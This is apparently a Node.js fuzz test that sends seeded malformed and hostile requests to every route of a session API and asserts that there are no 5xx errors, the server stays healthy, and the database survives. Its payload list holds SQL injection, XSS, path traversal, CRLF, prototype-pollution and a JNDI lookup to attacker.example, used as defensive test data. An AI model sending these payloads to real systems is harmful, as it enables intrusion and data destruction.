// Fuzzes every route of the API with a seeded generator: malformed JSON, wrong types, huge bodies,
// unicode (emoji, RTL, NUL, lone surrogates) and injection-shaped strings in every field, query
// parameter, path segment and header. Every answer must be 4xx (2xx where the input is valid),
// never 5xx; the server must stay up and the sessions table must still exist.
// FUZZ_SEED and FUZZ_REQUESTS change the run; the seed is printed so a failure can be replayed.
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, test } from 'node:test';
import { sql } from 'kysely';
import { type TestStack, startTestStack } from '../support/stack.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20251122);
const REQUESTS = Number(process.env.FUZZ_REQUESTS ?? 400);

let stack: TestStack;
before(async () => {
  // A limit high enough that the fuzz reaches the handlers (limits.test.ts covers the 429s).
  stack = await startTestStack({ env: { API_RATE_LIMIT: '100000', API_RATE_BURST: '100000' } });
});
after(async () => {
  await stack?.close();
});

/** mulberry32: small, fast, seedable. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), 1 | s);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const NASTY = [
  "'; drop table sessions; --",
  '" OR 1=1 --',
  "1'; SELECT pg_sleep(5); --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '%00',
  '\u0000',
  'a\u0000b',
  '🎬🍿📺',
  '👨‍👩‍👧‍👦',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\uFEFF',
  '\r\nSet-Cookie: x=1',
  '',
  ' ',
  '\t\n',
  'null',
  'true',
  '-1',
  '1e309',
  'NaN',
  '__proto__',
  'constructor',
  'x'.repeat(513),
  'x'.repeat(20_000),
  'demo-small',
  'no-such-key',
  'valid_id-123',
  'A'.repeat(64),
  'A'.repeat(65),
  'COMPLETED',
];

interface Fuzz {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  route: string;
}

function generator(seed: number) {
  const r = rng(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(r() * items.length)];
  const chance = (p: number) => r() < p;
  const knownIds: string[] = [];

  const str = () => pick(NASTY);
  const value = (depth = 0): unknown => {
    const kind = Math.floor(r() * 10);
    if (kind <= 4) return str();
    if (kind === 5) return pick([0, -1, 1e308, 2 ** 53 + 1, 3.14, -0]);
    if (kind === 6) return pick([true, false, null]);
    if (kind === 7) return depth > 2 ? [] : [value(depth + 1), value(depth + 1)];
    if (kind === 8) return depth > 2 ? {} : { [str().slice(0, 40)]: value(depth + 1), $gt: '' };
    return pick(['demo-small', 'no-such-key-fuzz', `fuzz-${Math.floor(r() * 1e9)}`]);
  };
  /** Percent-encodes what the HTTP client refuses, but keeps `..`, `%`, `/`-free raw forms. */
  const pct = (s: string, keepPercent: boolean) =>
    [...Buffer.from(s, 'utf8')].map((b) => (b > 0x20 && b < 0x7f && b !== 0x2f && b !== 0x3f && b !== 0x23 && (keepPercent || b !== 0x25) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
  const segment = () => {
    if (knownIds.length > 0 && chance(0.15)) return pick(knownIds);
    const s = str();
    return chance(0.3) ? pct(s, true) : pct(s, false); // sometimes a raw `%` (malformed escapes)
  };
  const query = (names: string[]) => {
    const parts: string[] = [];
    for (const name of names) if (chance(0.7)) parts.push(`${name}=${pct(String(value()), chance(0.2))}`);
    if (chance(0.3)) parts.push(`${pct(str(), false)}=${pct(str(), false)}`);
    if (chance(0.2)) parts.push(`${pick(names.length ? names : ['x'])}[$gt]=`);
    if (chance(0.15) && names.length) parts.push(`${names[0]}=a`, `${names[0]}=b`); // repeated key
    return parts.length ? `?${parts.join('&')}` : '';
  };
  const jsonBody = (fields: string[]): Buffer => {
    const kind = Math.floor(r() * 12);
    if (kind === 0) return Buffer.from(pick(['{', '{"dataKey": ', 'nul', '{"a":1}garbage', "{'dataKey':'x'}", '[', '{"dataKey":"\\ud800"}', '{"dataKey":"\\u0000"}']));
    if (kind === 1) return Buffer.from(pick(['null', '[]', '"string"', '123', 'true', '{}']));
    if (kind === 2) return Buffer.from(`${'['.repeat(4000)}${']'.repeat(4000)}`);
    if (kind === 3) return Buffer.from(JSON.stringify({ dataKey: 'x'.repeat(pick([17 * 1024, 200 * 1024, 1024 * 1024])) }));
    if (kind === 4) return Buffer.from([0xff, 0xfe, 0x7b, 0x22, 0xc3, 0x28, 0x7d]); // invalid UTF-8
    if (kind === 5) return Buffer.from('{"__proto__": {"admin": true}, "constructor": {"prototype": {"x": 1}}}');
    const body: Record<string, unknown> = {};
    for (const f of fields) if (chance(0.75)) body[f] = value();
    if (chance(0.2)) body[str().slice(0, 30)] = value();
    return Buffer.from(JSON.stringify(body));
  };
  const contentType = () =>
    pick(['application/json', 'application/json', 'application/json', 'application/json; charset=utf-8', 'text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=latin1', '']);
  const auth = (): Record<string, string> => {
    if (chance(0.85)) return { authorization: `Bearer ${stack.apiKey}` };
    return chance(0.5) ? {} : { authorization: `Bearer ${pct(str(), true).slice(0, 200)}` };
  };
  const idem = (): Record<string, string> => (chance(0.3) ? { 'idempotency-key': chance(0.5) ? `fuzz-${Math.floor(r() * 20)}` : pct(str(), true).slice(0, 300) } : {});

  const routes: { weight: number; make: () => Fuzz }[] = [
    { weight: 3, make: () => ({ route: 'POST /api/sessions', method: 'POST', path: `/api/sessions${query([])}`, headers: { ...auth(), ...idem(), 'content-type': contentType() }, body: jsonBody(['dataKey', 'sessionId']) }) },
    { weight: 2, make: () => ({ route: 'GET /api/sessions', method: 'GET', path: `/api/sessions${query(['limit', 'state'])}`, headers: {} }) },
    { weight: 2, make: () => ({ route: 'GET /api/sessions/:id', method: 'GET', path: `/api/sessions/${segment()}${query(['x'])}`, headers: {} }) },
    { weight: 1, make: () => ({ route: 'GET /api/sessions/:id/report', method: 'GET', path: `/api/sessions/${segment()}/report`, headers: {} }) },
    { weight: 1, make: () => ({ route: 'GET /api/sessions/:id/events', method: 'GET', path: `/api/sessions/${segment()}/events`, headers: { accept: 'text/event-stream' } }) },
    { weight: 2, make: () => ({ route: 'POST /api/sessions/:id/connect', method: 'POST', path: `/api/sessions/${segment()}/connect`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody(['dataKey']) }) },
    { weight: 1, make: () => ({ route: 'POST /api/sessions/:id/cancel', method: 'POST', path: `/api/sessions/${segment()}/cancel`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody([]) }) },
    { weight: 1, make: () => ({ route: 'GET /api/sessions/:id/failures', method: 'GET', path: `/api/sessions/${segment()}/failures${query(['all'])}`, headers: {} }) },
    { weight: 1, make: () => ({ route: 'POST /api/sessions/:id/failures/redrive', method: 'POST', path: `/api/sessions/${segment()}/failures/redrive`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody([]) }) },
    { weight: 1, make: () => ({ route: 'POST /api/sessions/:id/schedule', method: 'POST', path: `/api/sessions/${segment()}/schedule${pick(['', '/pause', '/resume'])}`, headers: { ...auth(), 'content-type': contentType() }, body: jsonBody(['dataKey', 'every', 'note']) }) },
    { weight: 1, make: () => ({ route: 'GET|DELETE /api/sessions/:id/schedule', method: pick(['GET', 'DELETE']), path: `/api/sessions/${segment()}/schedule`, headers: auth() }) },
    { weight: 2, make: () => ({ route: 'GET /api/callback', method: 'GET', path: `/api/callback${query(['sessionID', 'dataKey', 'ts', 'sig'])}`, headers: { accept: pick(['application/json', 'text/html', '*/*']) } }) },
    { weight: 1, make: () => ({ route: 'GET /api/demo-keys', method: 'GET', path: `/api/demo-keys${query(['x'])}`, headers: {} }) },
    { weight: 2, make: () => ({ route: 'POST /codec/*', method: 'POST', path: `/codec/${pick(['encode', 'decode'])}`, headers: { ...auth(), 'content-type': contentType() }, body: codecBody() }) },
    { weight: 1, make: () => ({ route: 'static', method: pick(['GET', 'HEAD']), path: `/${segment()}/${segment()}`, headers: {} }) },
    { weight: 1, make: () => ({ route: 'other methods', method: pick(['PUT', 'PATCH', 'DELETE', 'OPTIONS']), path: pick(['/api/sessions', `/api/sessions/${segment()}`, '/codec/decode', '/']), headers: { ...auth(), 'content-type': contentType(), origin: pick(['http://127.0.0.1:8233', 'https://evil.example']) }, body: jsonBody(['dataKey']) }) },
  ];
  function codecBody(): Buffer {
    if (chance(0.4)) return jsonBody(['payloads']);
    const payloads = Array.from({ length: 1 + Math.floor(r() * 3) }, () => ({
      metadata: chance(0.5) ? { encoding: Buffer.from(pick(['binary/encrypted', 'json/plain', str()])).toString('base64'), 'encryption-key-id': pct(str(), true) } : value(),
      data: chance(0.6) ? Buffer.from(str()).toString('base64') : value(),
    }));
    return Buffer.from(JSON.stringify({ payloads }));
  }
  const total = routes.reduce((n, x) => n + x.weight, 0);
  return {
    next(): Fuzz {
      let roll = r() * total;
      for (const x of routes) if ((roll -= x.weight) < 0) return x.make();
      return routes[0].make();
    },
    remember(id: string) {
      knownIds.push(id);
    },
  };
}

/** The oracle for POST /api/sessions: would a careful reader of the API accept this request? */
function validStart(f: Fuzz): boolean {
  const auth = f.headers.authorization ?? '';
  if (auth !== `Bearer ${stack.apiKey}`) return false;
  const key = f.headers['idempotency-key'];
  if (key !== undefined && !/^[\x21-\x7e]{1,255}$/.test(key)) return false;
  const type = f.headers['content-type'] ?? '';
  if (!type.startsWith('application/json')) return true; // not JSON: no body, which is a valid start
  if (/charset=(?!utf-8)/i.test(type) || f.body!.length > 16 * 1024) return false;
  let body: unknown;
  try {
    body = JSON.parse(f.body!.toString('utf8'));
  } catch {
    return false;
  }
  if (!body || typeof body !== 'object' || Array.isArray(body)) return false;
  const { dataKey, sessionId, ...rest } = body as Record<string, unknown>;
  if (Object.keys(rest).length > 0) return false;
  if (dataKey !== undefined && (typeof dataKey !== 'string' || dataKey.trim().length < 1 || dataKey.trim().length > 512)) return false;
  if (sessionId !== undefined && (typeof sessionId !== 'string' || !/^[A-Za-z0-9_-]{1,64}$/.test(sessionId))) return false;
  return true;
}

interface Answer {
  status: number;
  body: string;
  contentType: string;
}

function send(base: string, f: Fuzz): Promise<Answer> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const headers: Record<string, string | number> = { ...f.headers };
    if (!headers['content-type']) delete headers['content-type'];
    if (f.body) headers['content-length'] = f.body.length;
    const req = request({ host: url.hostname, port: url.port, method: f.method, path: f.path, headers, timeout: 15_000 }, (res) => {
      const contentType = String(res.headers['content-type'] ?? '');
      const chunks: Buffer[] = [];
      if (contentType.startsWith('text/event-stream')) {
        // A live progress stream stays open: its status is the answer.
        res.destroy();
        return resolve({ status: res.statusCode ?? 0, body: '', contentType });
      }
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8'), contentType }));
      res.on('error', reject);
    });
    req.on('timeout', () => req.destroy(new Error('timed out')));
    req.on('error', reject);
    // The server may answer (413, 401) and close before reading a huge body: that is fine.
    if (f.body) req.end(f.body);
    else req.end();
  });
}

test(`fuzz: ${REQUESTS} generated requests over every route get no 5xx`, async () => {
  const gen = generator(SEED);
  const byClass: Record<string, number> = {};
  const byRoute: Record<string, Record<string, number>> = {};
  /** 5xx answers, and 2xx answers to input the oracle calls invalid. */
  const serverErrors: string[] = [];
  let tried = 0;
  let resets = 0;
  for (let i = 0; i < REQUESTS; i++) {
    const f = gen.next();
    let answer: Answer;
    try {
      answer = await send(stack.apiUrl, f);
    } catch (error) {
      // Only a refused huge body may end in a reset (the server answered and closed mid-upload).
      const code = (error as NodeJS.ErrnoException).code;
      if ((code === 'ECONNRESET' || code === 'EPIPE') && (f.body?.length ?? 0) > 16 * 1024) {
        resets++;
        tried++;
        continue;
      }
      throw new Error(`request ${i} (${f.method} ${f.path.slice(0, 120)}) failed: ${(error as Error).message}`);
    }
    tried++;
    const cls = `${Math.floor(answer.status / 100)}xx`;
    byClass[cls] = (byClass[cls] ?? 0) + 1;
    (byRoute[f.route] ??= {})[cls] = (byRoute[f.route][cls] ?? 0) + 1;
    if (answer.status >= 500 || answer.status < 200) {
      serverErrors.push(`#${i} ${f.method} ${f.path.slice(0, 150)} → ${answer.status} ${answer.body.slice(0, 200)}`);
    }
    if (answer.status >= 400 && answer.contentType.includes('json') && f.method !== 'HEAD') {
      const parsed = JSON.parse(answer.body) as { error?: { code?: string; message?: string } };
      assert.ok(parsed.error?.code && parsed.error.message, `#${i} error body ${answer.body.slice(0, 300)}`);
    }
    if (f.route === 'POST /api/sessions' && answer.status < 300 && !validStart(f)) {
      serverErrors.push(`#${i} accepted an invalid start: ${f.body?.toString('utf8').slice(0, 150)} (${JSON.stringify(f.headers).slice(0, 200)})`);
    }
    if (f.route === 'POST /api/sessions' && answer.status === 202) gen.remember((JSON.parse(answer.body) as { sessionId: string }).sessionId);
    if (i % 50 === 49) assert.equal((await fetch(`${stack.apiUrl}/healthz`)).status, 200, `server down after request ${i}`);
  }

  const fiveXX = byClass['5xx'] ?? 0;
  console.log(`fuzz seed=${SEED}: ${tried} inputs tried, ${fiveXX} 5xx, ${serverErrors.length - fiveXX} invalid starts accepted; by class ${JSON.stringify(byClass)}; ${resets} connections reset after a refused huge body`);
  for (const [route, counts] of Object.entries(byRoute)) console.log(`  ${route}: ${JSON.stringify(counts)}`);
  assert.deepEqual(serverErrors, []);

  // Still up, still serving, and no injection reached the database.
  assert.equal((await fetch(`${stack.apiUrl}/healthz`)).status, 200);
  assert.equal((await fetch(`${stack.apiUrl}/api/sessions`)).status, 200);
  const table = await sql<{ t: string | null }>`select to_regclass('public.sessions')::text as t`.execute(stack.db.db);
  assert.equal(table.rows[0].t, 'sessions');
});
